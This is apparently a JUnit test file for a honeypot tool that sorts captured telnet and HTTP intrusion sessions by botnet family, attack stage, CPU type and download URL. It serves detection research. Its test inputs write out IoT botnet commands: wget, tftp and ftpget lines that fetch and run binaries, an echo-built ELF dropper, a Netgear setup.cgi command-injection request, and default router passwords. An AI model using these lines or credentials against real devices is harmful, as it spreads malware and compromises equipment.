package teiten.session.understand;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;

import teiten.OperatorMistake;
import teiten.net.IpAddress;
import teiten.session.Door;
import teiten.session.Event;
import teiten.session.Payload;
import teiten.session.Recorder;
import teiten.session.Session;
import teiten.session.SessionImage;
import teiten.session.Text;
import teiten.session.Visit;

import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.function.Consumer;

/// A session's row: stages, family with evidence, CPUs, URLs.
class UnderstandingTest {
    private static final FamilyRules RULES = FamilyRules.builtIn();
    private static final Instant START = Instant.parse("2026-11-23T00:00:00Z");

    private static Session session(String source, int second, Consumer<Recorder> script) {
        Instant at = START.plusSeconds(second);
        Visit visit =
                Visit.open(
                        "s",
                        IpAddress.parse(source),
                        1234,
                        Door.TELNET,
                        IpAddress.parse("198.51.100.7"),
                        23,
                        "",
                        at);
        List<Event> events = new ArrayList<>();
        Recorder recorder = new Recorder(visit, () -> at, events::add);
        recorder.connected();
        script.accept(recorder);
        recorder.closed("closed");
        return Session.of(events);
    }

    private static SessionRecord row(String... lines) {
        return Understanding.of(
                session(
                        "192.0.2.1",
                        0,
                        r -> {
                            r.loggedIn("root", "xc3511");
                            Arrays.stream(lines).forEach(l -> r.command(Text.line(l)));
                        }),
                RULES);
    }

    private static List<String> stages(SessionRecord row) {
        return row.stages().stream().map(m -> m.stage().label()).toList();
    }

    @Test
    void a_mirai_bot_logs_in_looks_and_leaves() {
        SessionRecord row = row("enable", "system", "shell", "sh", "/bin/busybox MIRAI");

        assertThat(stages(row)).containsExactly("probe", "login-try", "login", "reconnaissance");
        assertThat(row.family()).isEqualTo("mirai");
        assertThat(row.tokens()).containsExactly("MIRAI");
        assertThat(row.evidence())
                .contains(new Evidence("mirai-token", "/bin/busybox MIRAI"))
                .contains(new Evidence("mirai-way-in", "system"));
    }

    @Test
    void hajime_is_no_mirai_though_both_ask_busybox() {
        SessionRecord row =
                row(
                        "enable",
                        "shell",
                        "sh",
                        "cat /proc/mounts; /bin/busybox HIVPB",
                        "cd /var; (cat .s || cp /bin/echo .s); /bin/busybox HIVPB",
                        "nc; wget; /bin/busybox HIVPB",
                        "(dd bs=52 count=1 if=.s || cat .s)",
                        "rm .s; wget http://192.0.2.66:4636/.i; chmod +x .i; ./.i; exit");

        assertThat(row.family()).isEqualTo("hajime");
        assertThat(stages(row))
                .containsExactly(
                        "probe",
                        "login-try",
                        "login",
                        "reconnaissance",
                        "download",
                        "run",
                        "clean-up");
        assertThat(row.urls()).containsExactly("http://192.0.2.66:4636/.i");
        assertThat(row.hosts()).containsExactly("192.0.2.66");
    }

    @Test
    void a_gafgyt_line_names_its_cpus_in_the_order_of_its_tries() {
        SessionRecord row =
                row(
                        "cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.9/bins.sh; sh"
                                + " bins.sh; tftp 192.0.2.9 -c get tftp1.sh; sh tftp1.sh; tftp -r"
                                + " tftp2.sh -g 192.0.2.9; sh tftp2.sh; ftpget -v -u anonymous -p"
                                + " anonymous -P 21 192.0.2.9 ftp1.sh ftp1.sh",
                        "wget http://192.0.2.9/a.mpsl; ./a.mpsl; wget http://192.0.2.9/a.arm7;"
                                + " ./a.arm7; curl -O 192.0.2.9/a.sh4");

        assertThat(row.family()).isEqualTo("gafgyt");
        assertThat(row.cpuLabels()).containsExactly("mipsel", "armv7", "superh");
        assertThat(row.urls())
                .contains(
                        "tftp://192.0.2.9/tftp1.sh",
                        "tftp://192.0.2.9/tftp2.sh",
                        "ftp://192.0.2.9/ftp1.sh",
                        "http://192.0.2.9/a.sh4");
    }

    @Test
    void a_file_written_by_echo_tells_its_cpu_by_its_elf_header() {
        SessionRecord row =
                row(
                        "cp /bin/ls .x; >.x",
                        "echo -ne '\\x7f\\x45\\x4c\\x46\\x01\\x02\\x01\\x00\\x00' > .x",
                        "echo -ne '\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\x08' >> .x",
                        "./.x");

        assertThat(row.cpus()).containsExactly(new CpuClue(Cpu.MIPS, CpuClue.How.ELF, ".x"));
        assertThat(stages(row)).contains("download", "run");
        assertThat(row.family()).isEqualTo("unknown");
    }

    @Test
    void writing_kami_is_a_look_and_no_download() {
        SessionRecord row =
                row(
                        "/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon;"
                                + " /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon");

        assertThat(row.reached(Stage.DOWNLOAD)).isFalse();
        assertThat(row.family()).isEqualTo("mirai");
    }

    @Test
    void commands_in_a_request_are_read_like_a_shells() {
        SessionRecord row =
                Understanding.of(
                        session(
                                "192.0.2.1",
                                0,
                                r ->
                                        r.request(
                                                "GET",
                                                "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.5:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&x=1",
                                                "",
                                                Payload.EMPTY,
                                                "netgear")),
                        RULES);

        assertThat(row.family()).isEqualTo("mozi");
        assertThat(row.cpuLabels()).containsExactly("mips");
        assertThat(stages(row)).containsExactly("probe", "download", "run", "clean-up");
    }

    @Test
    void sessions_of_one_loader_share_a_fingerprint() {
        String[] one = {
            "/bin/busybox ps; /bin/busybox ECCHI",
            "/bin/busybox wget http://192.0.2.1/bins/mirai.arm -O - > dvrHelper"
        };
        String[] other = {
            "/bin/busybox ps; /bin/busybox IHCCE",
            "/bin/busybox wget http://203.0.113.77:8080/bins/mirai.arm -O - > dvrHelper"
        };

        assertThat(row(one).fingerprint()).isEqualTo(row(other).fingerprint()).hasSize(16);
        assertThat(row(one).fingerprint()).isNotEqualTo(row("ls").fingerprint());
        assertThat(row().fingerprint()).isEmpty();
    }

    @Test
    void a_loader_is_linked_to_who_found_the_password_and_to_its_file_host() {
        Session scanner =
                session(
                        "192.0.2.1",
                        0,
                        r -> {
                            r.loggedIn("root", "vizxv");
                            r.command(Text.line("/bin/busybox MIRAI"));
                        });
        Session loader =
                session(
                        "192.0.2.2",
                        7,
                        r -> {
                            r.loggedIn("root", "vizxv");
                            r.command(Text.line("wget http://192.0.2.3/x.arm"));
                        });
        Session late =
                session(
                        "192.0.2.4",
                        90_000,
                        r -> {
                            r.loggedIn("root", "vizxv");
                            r.command(Text.line("wget http://192.0.2.4/x.arm"));
                        });

        List<Chain.Link> links =
                Chain.links(
                        List.of(
                                Understanding.of(late, RULES),
                                Understanding.of(loader, RULES),
                                Understanding.of(scanner, RULES)));

        assertThat(links).hasSize(2);
        assertThat(links.get(0).scanner()).isEqualTo(scanner.id());
        assertThat(links.get(0).hosts()).containsExactly("192.0.2.3");
        assertThat(links.get(0).delay()).hasSeconds(7);
        assertThat(links.get(0).rivals()).isZero();
        assertThat(links.get(1).scanner()).isEmpty();
        assertThat(links.get(1).ownHost()).isTrue();
    }

    @Test
    void a_row_and_an_image_come_back_as_they_were() {
        Session session =
                session(
                        "2001:db8::1",
                        0,
                        r -> {
                            r.loginTry("a", "\u0000<b>", true);
                            r.loggedIn("root", "");
                            r.command(Text.line("wget http://192.0.2.9/x.mips; ./x.mips"));
                            r.output(Payload.of(new byte[20_000]));
                        });
        SessionRecord row = Understanding.of(session, RULES);

        assertThat(RecordJson.read(RecordJson.write(row))).isEqualTo(row);
        byte[] image = SessionImage.write(session);
        assertThat(SessionImage.read(image)).isEqualTo(session);
        for (int end = 0; end < image.length; end++) {
            byte[] cut = Arrays.copyOf(image, end);
            assertThatThrownBy(() -> SessionImage.read(cut))
                    .isInstanceOf(IllegalArgumentException.class);
        }
        image[4] = 9;
        assertThatThrownBy(() -> SessionImage.read(image)).hasMessageContaining("version 9");
    }

    @Test
    void lists_are_bounded_and_the_row_says_so() {
        String[] lines = new String[500];
        for (int i = 0; i < lines.length; i++) {
            lines[i] = "wget http://192.0.2.9/f" + i + ".arm";
        }

        SessionRecord row = row(lines);

        assertThat(row.urls()).hasSize(SessionRecord.MOST);
        assertThat(row.cut()).isTrue();
        assertThat(row.commands()).isEqualTo(500);
    }

    @Test
    void a_rule_file_with_a_mistake_is_refused_with_file_place_and_remedy() {
        assertThatThrownBy(() -> FamilyRules.parse("version = \"1\"\n[[family]]\nname=", "my.toml"))
                .isInstanceOf(OperatorMistake.class)
                .hasMessageContaining("my.toml, line 3");
        assertThatThrownBy(() ->
                        FamilyRules.parse(
                                """
                                version = "1"
                                [[family]]
                                name = "x"
                                en = "x"
                                ja = "x"
                                [[family.rule]]
                                id = "r"
                                line = "("
                                points = 3
                                """,
                                "my.toml"))
                .isInstanceOf(OperatorMistake.class)
                .hasMessageContaining("\"r\" is no regular expression");
    }

    @Test
    void lines_made_to_cost_much_are_understood_like_any_other() {
        SessionRecord row =
                row(
                        "cd /tmp; wget ".repeat(1000),
                        "wget " + "a".repeat(16000),
                        "ssh-rsa " + "A".repeat(16000),
                        "\\x67".repeat(4000),
                        ">/" + "a/".repeat(8000) + ".ptmx",
                        "tftp1.sh".repeat(2000));

        assertThat(row.commands()).isEqualTo(6);
        assertThat(row.family()).isEqualTo("unknown");
    }
}
